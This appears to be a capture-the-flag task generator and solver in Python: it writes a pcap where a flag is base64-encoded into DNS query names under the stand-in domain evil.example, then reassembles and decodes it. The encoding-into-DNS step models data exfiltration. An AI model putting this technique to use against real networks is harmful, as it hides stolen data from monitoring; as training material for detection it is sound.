#!/usr/bin/env python3
# A capture-the-flag task: a file left the network in the names of DNS queries.
import base64
from scapy.all import *

LINK = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")

secret = b"flag{names can carry files, too}"
encoded = base64.b64encode(secret).decode().replace("=", "").replace("+", "-").replace("/", "_")
chunks = [encoded[i:i + 10] for i in range(0, len(encoded), 10)]
packets = [LINK/IP(src="10.1.1.5", dst="10.1.1.1")/UDP(sport=5353 + i, dport=53)/DNS(id=i, rd=1, qd=DNSQR(qname="%d.%s.evil.example" % (i, c))) for i, c in enumerate(chunks)]
packets.insert(2, packets[1])
packets.append(LINK/IP(src="10.1.1.5", dst="10.1.1.1")/UDP(sport=9, dport=53)/DNS(qd=DNSQR(qname="www.example.org")))
wrpcap("ctf.pcap", packets)

parts = {}
for p in rdpcap("ctf.pcap"):
    if DNSQR not in p:
        continue
    name = p[DNSQR].qname.decode()
    if not name.endswith(".evil.example."):
        continue
    number, data = name.split(".")[:2]
    parts[int(number)] = data

text = "".join(parts[k] for k in sorted(parts))
text += "=" * (-len(text) % 4)
print(len(parts), "pieces")
print(base64.urlsafe_b64decode(text))
